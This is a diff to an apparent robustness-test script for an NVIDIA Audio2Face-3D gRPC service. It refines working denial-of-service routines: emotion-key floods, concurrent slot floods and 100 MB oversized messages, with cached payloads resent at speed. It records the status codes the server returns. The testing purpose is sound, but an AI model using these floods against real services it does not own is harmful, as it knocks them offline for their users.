@@ -9,6 +9,7 @@ outcomes. Each outcome is ``{"code": gRPC status name, "details": ..., "status":
 from __future__ import annotations
 
 import asyncio
+import functools
 import json
 import sys
 import time
@@ -16,7 +17,7 @@ import time
 import grpc
 import numpy as np
 from nvidia_ace import audio_pb2
-from nvidia_audio2face_3d import audio2face_pb2_grpc, messages_pb2
+from nvidia_audio2face_3d import messages_pb2
 
 END = messages_pb2.AudioWithEmotionStream(end_of_audio=messages_pb2.AudioWithEmotionStream.EndOfAudio())
 
@@ -43,13 +44,19 @@ def tone(seconds: float, rate: int = 16000, seed: int = 0) -> bytes:
     return ((0.3 * np.sin(2 * np.pi * 180 * t) + noise) * 32767).astype("<i2").tobytes()
 
 
+METHOD = "/nvidia_ace.services.a2f_controller.v1.A2FControllerService/ProcessAudioStream"
+
+
 async def call(address: str, requests, metadata=None, pace: float = 0.0, timeout: float = 120.0) -> dict:
-    """Send ``requests`` (spaced ``pace`` s apart) while reading every answer; the call's outcome."""
+    """Send ``requests`` (messages, or their bytes; spaced ``pace`` s apart) while reading every answer; the call's
+    outcome. Requests go out as bytes, so an attack can serialize a big message once and send it many times."""
+    requests = [r if isinstance(r, bytes) else r.SerializeToString() for r in requests]
     started = time.perf_counter()
     status, frames = None, 0
     async with grpc.aio.insecure_channel(address) as channel:
-        stub = audio2face_pb2_grpc.A2FControllerServiceStub(channel)
-        rpc = stub.ProcessAudioStream(metadata=metadata, timeout=timeout)
+        answer_type = messages_pb2.A2F3DAnimationDataStream
+        method = channel.stream_stream(METHOD, request_serializer=None, response_deserializer=answer_type.FromString)
+        rpc = method(metadata=metadata, timeout=timeout)
 
         async def write() -> None:
             try:
@@ -77,11 +84,16 @@ async def call(address: str, requests, metadata=None, pace: float = 0.0, timeout
             "seconds": round(time.perf_counter() - started, 3)}  # fmt: skip
 
 
+@functools.lru_cache(maxsize=4)
+def _flood_message(keys: int) -> bytes:
+    """100 ms of audio with ``keys`` timed emotions, serialized (built once: 140,000 keys take a second)."""
+    return audio(tone(0.1), keys).SerializeToString()
+
+
 async def key_flood(address: str, messages: int = 10, keys: int = 140_000, calls: int = 1, metadata=None) -> list:
     """``calls`` calls in a row, each a header then ``messages`` messages of ``keys`` timed emotions (3.2 MB each
     at 140,000) with 100 ms of audio, as fast as the server reads them."""
-    pcm = tone(0.1)
-    flood = [audio(pcm, keys)] * messages
+    flood = [_flood_message(keys)] * messages
     return [await call(address, [header(), *flood, END], metadata) for _ in range(calls)]
 
 
@@ -109,12 +121,37 @@ async def slot_flood(address: str, calls: int = 12, seconds: float = 0.5, metada
     return list(await asyncio.gather(*(call(address, requests, metadata) for _ in range(calls))))
 
 
+@functools.lru_cache(maxsize=2)
+def _big_message(size: int) -> bytes:
+    return audio(bytes(size)).SerializeToString()
+
+
 async def big_message(address: str, size: int = 100 * 1024 * 1024, metadata=None) -> list:
     """One message of ``size`` bytes of audio (over the server's message limit)."""
-    return [await call(address, [header(), audio(bytes(size)), END], metadata)]
+    return [await call(address, [header(), _big_message(size), END], metadata)]
 
 
-ATTACKS = {f.__name__: f for f in (key_flood, trickle, fast_writer, slot_flood, big_message)}
+async def big_message_sync(address: str, size: int = 100 * 1024 * 1024, metadata=None) -> list:
+    """:func:`big_message` on gRPC's synchronous client, which reports the status the server sent even when the
+    write of the message is cut off by it (the asyncio client reports INTERNAL then: grpc/grpc#36066)."""
+
+    def run() -> dict:
+        started = time.perf_counter()
+        requests = [header().SerializeToString(), _big_message(size), END.SerializeToString()]
+        with grpc.insecure_channel(address) as channel:
+            method = channel.stream_stream(METHOD, request_serializer=None, response_deserializer=None)
+            try:
+                answers = list(method(iter(requests), metadata=metadata))
+                code, details = grpc.StatusCode.OK, ""
+            except grpc.RpcError as exc:
+                answers, code, details = [], exc.code(), exc.details()
+        return {"code": code.name, "details": details or "", "status": None, "frames": len(answers),
+                "seconds": round(time.perf_counter() - started, 3)}  # fmt: skip
+
+    return [await asyncio.to_thread(run)]
+
+
+ATTACKS = {f.__name__: f for f in (key_flood, trickle, fast_writer, slot_flood, big_message, big_message_sync)}
 
 
 def main() -> None:
